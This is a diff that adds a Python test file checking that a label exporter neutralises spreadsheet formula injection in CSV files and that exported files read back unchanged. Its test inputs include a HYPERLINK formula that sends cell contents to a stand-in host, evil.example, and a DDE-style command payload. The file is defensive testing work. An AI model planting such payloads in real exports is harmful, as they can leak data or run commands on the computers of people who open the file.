@@ -1,0 +1,69 @@
+"""An exported CSV file contains no formulas, and is read back unchanged."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from vidlex.service.commands.labels.files import read, read_declared, write
+
+FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")
+NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0".replace("|", ""),
+    "-2+3",
+    "@SUM(A1:A9)",
+    "'=1",
+    "''+1",
+    "'quoted'",
+    "plain",
+]
+
+
+def exported(labels: list[dict[str, Any]]) -> str:
+    stream = io.StringIO(newline="")
+    write(stream, labels, "csv")
+    return stream.getvalue()
+
+
+def label(name: str, **fields: Any) -> dict[str, Any]:
+    return {"id": "lbl_1", "name": name, "aliases": [], "categories": [], "parents": [], "metadata": {}, **fields}
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_no_cell_is_a_formula(name: str) -> None:
+    text = exported([label(name, aliases=[name, "x"], categories=[name], parents=[{"id": "lbl_2", "name": name}])])
+    for row in csv.reader(io.StringIO(text)):
+        assert not [cell for cell in row if cell.startswith(FORMULAS)]
+    (entry,) = read(io.StringIO(text), "csv")
+    assert entry == {"name": name, "aliases": [name, "x"], "categories": [name], "parents": [name]}
+
+
+TEXTS = st.text(st.sampled_from("=+-@'\"ab, "), min_size=1).map(str.strip).filter(bool)
+
+
+@given(TEXTS, st.lists(TEXTS))
+@example("'", ["'"])
+@example("'-", [])
+def test_files_are_read_back_unchanged(name: str, aliases: list[str]) -> None:
+    text = exported([label(name, aliases=aliases, metadata={"=1": "-1"}, threshold=0.5)])
+    (entry,) = read_declared(io.StringIO(text), "csv")
+    assert entry == {
+        "name": name,
+        "aliases": aliases,
+        "categories": [],
+        "parents": [],
+        "threshold": 0.5,
+        "metadata": {"=1": "-1"},
+    }
+
+
+def test_a_file_written_by_hand_needs_no_quotes() -> None:
+    text = "name,aliases\n-20 degrees,=b|@c\n'tis,'twas\n"
+    entries = list(read(io.StringIO(text), "csv"))
+    assert entries == [{"name": "-20 degrees", "aliases": ["=b", "@c"]}, {"name": "'tis", "aliases": ["'twas"]}]
